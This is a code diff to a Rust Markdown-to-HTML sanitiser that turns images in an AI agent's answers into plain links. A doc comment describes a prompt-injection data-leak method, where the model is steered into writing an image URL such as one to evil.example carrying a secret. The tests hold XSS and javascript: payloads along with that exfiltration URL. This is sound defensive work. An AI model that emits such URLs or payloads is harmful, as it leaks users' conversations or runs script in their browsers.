@@ -1,15 +1,39 @@
-//! Template descriptions: Markdown rendered on the server into HTML that is safe to
-//! insert. Raw HTML in the source is shown as text, and links and images keep only
-//! http(s) and mailto addresses, so a description cannot run script or phish with
-//! `javascript:` links.
+//! Markdown rendered on the server into HTML that is safe to insert (a template's
+//! description, an agent's answer). Raw HTML in the source is shown as text, and links
+//! and images keep only http(s), mailto and same-site addresses, so the text cannot run
+//! script or phish with `javascript:` links.
 
-use pulldown_cmark::{CowStr, Event, Options, Parser, Tag, html};
+use pulldown_cmark::{CowStr, Event, Options, Parser, Tag, TagEnd, html};
 
-pub fn render(markdown: &str) -> String {
+/// What becomes of an image in the source.
+#[derive(Clone, Copy, PartialEq, Eq)]
+pub enum Images {
+    /// Shown: text its author wrote (a template's description).
+    Shown,
+    /// A link to it: a model's answer may be steered by what it read into an image
+    /// address carrying the conversation out (`![](https://evil.example/?q=secret)`),
+    /// which a browser fetches the moment it shows the image; a link goes nowhere
+    /// unless clicked.
+    AsLinks,
+}
+
+pub fn render(markdown: &str, images: Images) -> String {
     let options =
         Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
     let events = Parser::new_ext(markdown, options).map(|event| match event {
         Event::Html(raw) | Event::InlineHtml(raw) => Event::Text(raw),
+        Event::Start(Tag::Image {
+            link_type,
+            dest_url,
+            title,
+            id,
+        }) if images == Images::AsLinks => Event::Start(Tag::Link {
+            link_type,
+            dest_url: safe_url(dest_url),
+            title,
+            id,
+        }),
+        Event::End(TagEnd::Image) if images == Images::AsLinks => Event::End(TagEnd::Link),
         Event::Start(Tag::Link {
             link_type,
             dest_url,
@@ -53,7 +77,7 @@ fn safe_url(url: CowStr<'_>) -> CowStr<'_> {
 
 #[cfg(test)]
 mod tests {
-    use super::render;
+    use super::{Images, render};
 
     #[test]
     fn nesting_thousands_deep_renders_without_recursion() {
@@ -68,7 +92,11 @@ mod tests {
         ];
         let rendered = std::thread::Builder::new()
             .stack_size(256 * 1024)
-            .spawn(move || deep.iter().map(|text| render(text).len()).sum::<usize>())
+            .spawn(move || {
+                deep.iter()
+                    .map(|text| render(text, Images::Shown).len())
+                    .sum::<usize>()
+            })
             .expect("thread")
             .join()
             .expect("rendering overflowed or panicked");
@@ -77,7 +105,10 @@ mod tests {
 
     #[test]
     fn markdown_becomes_html() {
-        let html = render("# Title\n\nSome **bold** and a [link](https://example.com).");
+        let html = render(
+            "# Title\n\nSome **bold** and a [link](https://example.com).",
+            Images::Shown,
+        );
         assert!(html.contains("<h1>Title</h1>"), "{html}");
         assert!(html.contains("<strong>bold</strong>"), "{html}");
         assert!(
@@ -88,7 +119,10 @@ mod tests {
 
     #[test]
     fn raw_html_is_shown_as_text() {
-        let html = render("Hi <script>alert(1)</script>\n\n<img src=x onerror=alert(1)>");
+        let html = render(
+            "Hi <script>alert(1)</script>\n\n<img src=x onerror=alert(1)>",
+            Images::AsLinks,
+        );
         assert!(!html.contains("<script"), "{html}");
         assert!(!html.contains("<img"), "{html}");
         assert!(html.contains("&lt;script&gt;"), "{html}");
@@ -102,10 +136,25 @@ mod tests {
             "data:text/html,x",
             "//evil.example",
         ] {
-            let html = render(&format!("[x]({target}) ![y]({target})"));
+            let html = render(&format!("[x]({target}) ![y]({target})"), Images::Shown);
             assert!(!html.to_lowercase().contains("javascript"), "{html}");
             assert!(!html.contains("data:"), "{html}");
             assert!(!html.contains("//evil"), "{html}");
         }
+    }
+
+    #[test]
+    fn an_answer_links_to_its_images_instead_of_loading_them() {
+        let html = render(
+            "Look: ![the chart](https://evil.example/?q=secret \"t\")",
+            Images::AsLinks,
+        );
+        assert!(!html.contains("<img"), "{html}");
+        assert!(
+            html.contains(r#"<a href="https://evil.example/?q=secret" title="t">the chart</a>"#),
+            "{html}"
+        );
+        let shown = render("![the chart](https://example.com/c.png)", Images::Shown);
+        assert!(shown.contains("<img"), "{shown}");
     }
 }
